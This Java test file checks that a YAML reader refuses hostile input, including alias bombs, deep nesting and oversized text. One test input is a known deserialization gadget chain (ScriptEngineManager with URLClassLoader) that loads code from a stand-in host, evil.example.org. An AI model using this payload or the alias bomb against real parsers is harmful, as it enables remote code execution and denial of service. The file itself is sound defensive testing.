package dev.muster.plan.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import dev.muster.plan.yaml.YamlReading.Fault;
import dev.muster.plan.yaml.YamlTree.Mapping;
import dev.muster.plan.yaml.YamlTree.Scalar;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileYamlTest {

    @Test
    void a_bomb_of_aliases_is_refused_before_it_can_grow() {
        var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append("a%d: &a%d [*a%d, *a%d, *a%d]\n".formatted(i, i, i - 1, i - 1, i - 1));
        }

        var reading = YamlReader.read(bomb.toString());

        assertThat(reading.faults())
                .hasSize(YamlReader.MAX_FAULTS)
                .extracting(Fault::problem)
                .contains("an alias (*name) stands for something written elsewhere");
        assertThat(values(reading)).isLessThan(200);
    }

    @Test
    void an_alias_to_itself_does_not_hang() {
        var reading = YamlReader.read("a: &a [*a]\n");

        assertThat(reading.faults()).extracting(Fault::path).containsExactly("a", "a[0]");
    }

    @Test
    void a_merge_of_another_mapping_is_refused() {
        var reading = YamlReader.read("a: {<<: {b: 1}, c: 2}\n");

        assertThat(reading.faults())
                .extracting(Fault::problem)
                .containsExactly("it merges another mapping (<<)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example.org/\"]]]]",
                "a: !!str 1",
                "a: !custom {b: 1}",
                "a: !!binary aGk=",
                "a: ! 12",
                "!!str a: 1",
            })
    void a_tag_is_refused(String text) {
        assertThat(YamlReader.read(text).faults())
                .isNotEmpty()
                .allMatch(fault -> fault.problem().startsWith("the tag "));
    }

    @Test
    void a_field_that_is_given_twice_is_refused_with_its_line() {
        var reading = YamlReader.read("a: 1\nb:\n  c: 1\n  c: 2\n");

        assertThat(reading.faults())
                .containsExactly(
                        new Fault(0, 4, "b.c", "it is given twice", "Keep one of the two."));
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: ", "- ", "? "})
    void great_depth_is_refused(String level) {
        var reading = YamlReader.read(level.repeat(100_000));

        assertThat(reading.faults())
                .singleElement()
                .satisfies(
                        fault -> assertThat(fault.problem()).isEqualTo("it is nested too deeply"));
    }

    @Test
    void great_size_is_refused_unread() {
        var reading = YamlReader.read("a: " + "x".repeat(YamlReader.MAX_CHARACTERS));

        assertThat(reading.documents()).isEmpty();
        assertThat(reading.faults())
                .singleElement()
                .satisfies(fault -> assertThat(fault.remedy()).contains("3145728"));
    }

    @Test
    void the_largest_text_that_is_allowed_is_read() {
        var text = "a: " + "x".repeat(YamlReader.MAX_CHARACTERS - 3);

        assertThat(YamlReader.read(text).faults()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: b: c",
                "a: [1",
                "\ta: 1",
                "a: 'x",
                "%YAML 9.9\n---\na: 1",
                "a: \u0000",
                "*"
            })
    void what_is_not_yaml_is_one_fault(String text) {
        assertThat(YamlReader.read(text).faults())
                .singleElement()
                .satisfies(fault -> assertThat(fault.problem()).startsWith("this is not YAML: "));
    }

    @Test
    void what_was_read_before_a_mistake_is_kept() {
        var reading = YamlReader.read("a: 1\n---\nb: [\n");

        assertThat(reading.documents()).hasSize(1);
        assertThat(reading.faults()).extracting(Fault::document).containsExactly(1);
    }

    @Test
    void names_of_fields_are_words() {
        var reading = YamlReader.read("{[a]: 1, {b: 2}: 3, on: 4, 5: 6}");

        assertThat(reading.faults())
                .extracting(Fault::problem)
                .containsExactly(
                        "the name of a field is not a text", "the name of a field is not a text");
        assertThat(((Mapping) reading.documents().getFirst()).entries())
                .containsOnlyKeys("on", "5");
    }

    @ParameterizedTest
    @CsvSource({
        "12,     INTEGER", "-3,    INTEGER", "0,     INTEGER", "007,    TEXT", "0x1F,  TEXT",
                "1_000, TEXT",
        "0.5,    DECIMAL", "1e3,   DECIMAL", ".inf,  TEXT", "12:30,  TEXT", "true,  BOOLEAN",
                "yes,  TEXT",
        "no,     TEXT", "~,     NOTHING", "Null,  NOTHING", "\"12\", TEXT", "\"true\", TEXT",
                "2026-01-01, TEXT"
    })
    void values_are_what_they_look_like(String written, YamlTree.Type type) {
        var quoted = written.startsWith("\"");
        var reading = YamlReader.read("a: " + written);

        assertThat(((Mapping) reading.documents().getFirst()).entries().get("a"))
                .isInstanceOfSatisfying(
                        Scalar.class,
                        scalar ->
                                assertThat(scalar.type())
                                        .isEqualTo(quoted ? YamlTree.Type.TEXT : type));
    }

    @Test
    void empty_documents_are_passed_over() {
        assertThat(YamlReader.read("---\n---\n# nothing\n---\na: 1\n...\n").documents()).hasSize(1);
    }

    private static int values(YamlReading reading) {
        var open = new ArrayList<YamlTree>(reading.documents());
        int count = 0;
        while (!open.isEmpty()) {
            count++;
            switch (open.removeLast()) {
                case Mapping mapping -> open.addAll(mapping.entries().values());
                case YamlTree.Sequence sequence -> open.addAll(List.copyOf(sequence.items()));
                case Scalar _ -> {}
            }
        }
        return count;
    }
}
